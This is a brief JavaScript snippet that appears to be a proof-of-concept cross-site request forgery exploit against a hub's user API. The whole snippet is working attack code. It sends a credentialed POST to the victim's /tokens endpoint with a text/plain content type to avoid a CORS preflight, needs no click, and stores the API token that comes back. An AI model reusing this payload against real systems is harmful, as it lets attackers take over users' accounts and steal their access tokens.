// Without a click: the one call of the hub's API that asks the authenticator (a simple request, no preflight).
"use strict";
const url = new URL(`/hub/api/users/${victim}/tokens`, target);
const headers = { "Content-Type": "text/plain" };
fetch(url, { method: "POST", credentials: "include", headers, body: '{"auth": {}}' })
  .then(async (answer) => {
    if (answer.ok) {
      await keep({ status: answer.status, ...(await answer.json()) });
    }
    finish(answer.status);
  })
  .catch((error) => finish(error.name));
